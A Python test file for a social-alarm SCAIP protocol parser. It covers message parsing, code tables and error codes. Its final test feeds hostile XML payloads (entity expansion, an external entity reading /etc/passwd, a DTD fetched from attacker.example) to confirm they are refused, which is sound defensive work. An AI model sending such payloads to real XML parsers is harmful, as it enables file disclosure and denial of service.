"""SCAIP <mrq> and <mrs>: real units' messages, the code tables, XML attacks refused."""

from __future__ import annotations

import pytest

from stadsvakt.alarms.protocols.errors import (
    ScaipBadContent,
    ScaipError,
    ScaipMissingTag,
    ScaipXmlForbidden,
)
from stadsvakt.alarms.protocols.events import Category, Qualifier
from stadsvakt.alarms.protocols.scaip import (
    MessageType,
    ScaipRequest,
    build_mrq,
    build_mrs,
    parse_mrq,
    parse_mrs,
)
from stadsvakt.alarms.protocols.scaip_codes import Classified, classify, component, event

# Shapes seen from real units (values made up): heartbeats and alarms.
HEARTBEAT = b"<mrq><mty>PI</mty><ref>1998218577</ref><cid>10149471</cid><dty>2</dty></mrq>"
ALARM = (
    b"<mrq><ref>00001883</ref><cha>0</cha><mty>ME</mty><cid>26317</cid><dty>02</dty>"
    b"<did>00</did><crd>gsm:+46701234567</crd><stc>010</stc></mrq>"
)


def test_a_heartbeat_and_an_alarm_from_real_units() -> None:
    beat = parse_mrq(HEARTBEAT)
    assert beat.heartbeat and (beat.ref, beat.cid, beat.device_type) == (
        "1998218577",
        "10149471",
        2,
    )
    alarm = parse_mrq(b'<?xml version="1.0" encoding="ISO-8859-1"?>' + ALARM)
    assert not alarm.heartbeat and alarm.message_type is MessageType.ALARM
    assert (alarm.status, alarm.device_id, alarm.callers) == (10, "00", ("gsm:+46701234567",))


def test_build_and_parse_round_trip() -> None:
    request = ScaipRequest(
        ref="abc123", cid="4670000001", device_type=5, status=9, component=2, location=21,
        device_id="7", priority=0, callers=("sip:unit@x", "gsm:+46"), version="01.00",
        texts={"ite": "Ä & <ö>"},
    )  # fmt: skip
    assert parse_mrq(build_mrq(request)) == request
    assert parse_mrs(build_mrs("abc123", 0)).snu == 0
    assert parse_mrs(build_mrs(None, 7, "missing")).text == "missing"


@pytest.mark.parametrize(
    ("device", "status", "category", "qualifier", "description"),
    [
        (3, 10, Category.SOCIAL, Qualifier.NEW, "Personal trigger: manual alarm"),
        (5, 9, Category.MEDICAL, Qualifier.NEW, "Fall detector: automatic alarm"),
        (23, 9, Category.FIRE, Qualifier.NEW, "Smoke detector: automatic alarm"),
        (3, 16, Category.FAULT, Qualifier.NEW, "Personal trigger: battery low"),
        (2, 102, Category.TEST, Qualifier.NEW, "Local unit and controller: test transmission, primary channel"),  # noqa: E501
        (3, 19, Category.SOCIAL, Qualifier.RESTORE, "Personal trigger: cancelled"),
        (27, None, Category.HOLD_UP, Qualifier.NEW, "Bogus caller switch: alarm"),
        (5, 999, Category.UNKNOWN, Qualifier.NEW, "Fall detector: status 0999"),
        (777, 10, Category.SOCIAL, Qualifier.NEW, "Device type 0777: manual alarm"),
    ],
)  # fmt: skip
def test_code_tables(
    device: int, status: int | None, category: Category, qualifier: Qualifier, description: str
) -> None:
    assert classify(device, status) == Classified(description, category, qualifier)


def test_event_carries_code_zone_text_and_the_message_type() -> None:
    alarm = parse_mrq(ALARM.replace(b"<did>00</did>", b"<did>4</did><dco>3</dco><lco>21</lco>"))
    parsed = event(alarm)
    assert (parsed.code, parsed.zone, parsed.category) == ("0002/0010", 4, Category.SOCIAL)
    assert parsed.text == "ref 00001883; device 4; button 2; kitchen; voice gsm:+46701234567"
    reset = event(parse_mrq(ALARM.replace(b"<mty>ME</mty>", b"<mty>RE</mty>")))
    assert reset.qualifier is Qualifier.RESTORE
    assert [component(c) for c in (2, 8, 24, 27, 99)] == [
        "button 1", "switch 2", "microcontroller", "module 3", "component 099",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("body", "error", "snu"),
    [
        (b"<mrq><ref>R1</ref><dty>3</dty></mrq>", ScaipMissingTag, 7),
        (b"<mrq><ref>R1</ref><cid>12a</cid><dty>3</dty></mrq>", ScaipBadContent, 3),
        (b"<mrq><ref>R1</ref><cid>1</cid><dty>3</dty><mty>XX</mty></mrq>", ScaipBadContent, 3),
        (b"<mrq><ref>R1</ref><ref>R2</ref><cid>1</cid><dty>3</dty></mrq>", ScaipBadContent, 3),
        (b"<mrq><ref>R1</ref><cid>1</cid><dty><x/></dty></mrq>", ScaipError, None),
        (b"<mrs><ref>R1</ref></mrs>", ScaipError, None),
        (b"not xml", ScaipError, None),
        (b"", ScaipError, None),
    ],
)
def test_content_errors_carry_their_status_number(
    body: bytes, error: type[ScaipError], snu: int | None
) -> None:
    with pytest.raises(error) as caught:
        parse_mrq(body)
    assert caught.value.snu == snu


@pytest.mark.parametrize(
    "attack",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><mrq><ref>&b;</ref></mrq>',
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><mrq><ref>&e;</ref></mrq>',
        b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><mrq/>',
        b"<!DOCTYPE mrq><mrq><ref>1</ref><cid>1</cid><dty>1</dty></mrq>",
    ],
)
def test_dtds_and_entities_are_refused_before_expansion(attack: bytes) -> None:
    with pytest.raises(ScaipXmlForbidden):
        parse_mrq(attack)
